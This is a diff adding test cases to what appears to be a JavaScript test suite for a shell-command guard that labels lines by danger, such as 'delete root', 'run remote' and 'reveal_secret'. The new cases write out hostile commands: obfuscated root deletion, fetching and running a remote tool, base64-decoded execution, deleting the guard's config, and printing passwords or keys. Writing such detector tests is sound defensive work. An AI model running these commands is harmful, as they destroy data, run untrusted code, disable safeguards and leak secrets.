@@ -42,6 +42,18 @@ test.each([
   ['chmod 000 /home/bob/.local/bin/crosshook', 'change_guards'],
   ['RM -rf /', 'delete root'],
   ['cp evil.json ~/.claude/', 'change_guards'],
+  ['wget h.example/tool && chmod +x tool', 'run remote'],
+  ['X=rm sh -c "$X -rf /"', 'delete root'],
+  ['node -e "require(\'fs\').rmSync(process.env.HOME)"', 'delete root'],
+  ["node -e \"require('fs')['rmSync']('/')\"", 'delete root'],
+  ["python3 -c 'exec(code)'", 'run decoded'],
+  ["python3 -c 'import os,base64; os.system(base64.b64decode(x))'", 'run decoded'],
+  ['perl -e \'unlink "$ENV{HOME}/.config/crosshook/config.toml"\'', 'change_guards'],
+  ['awk \'BEGIN{system("rm\\x20-rf\\x20/")}\'', 'delete root'],
+  ['pwsh -c "Remove-Item -Recurse $HOME/.config/crosshook"', 'change_guards'],
+  ['tar xOf a.tar run.sh | sh', 'run decoded'],
+  ['echo $DB_PASSWORD', 'reveal_secret environment'],
+  ['cat prod.key', 'read secret'],
 ])('%s: %s', (line, kind) => {
   expect(kinds(line)).toContain(kind)
 })
@@ -56,6 +68,10 @@ test.each([
   ['BASH_ENV=/tmp/start.sh bash x.sh', 'run startup'],
   ['echo x > bin/crosshook', 'change_guards'],
   ['touch /root/notes', 'write root'],
+  ['touch .env', 'write secret'],
+  ['cat node_modules/x/server.pem', 'read secret'],
+  ['env A=1 ls', 'reveal_secret'],
+  ['env -S "echo a"', 'reveal_secret'],
 ])('%s: not %s', (line, kind) => {
   expect(kinds(line)).not.toContain(kind)
 })
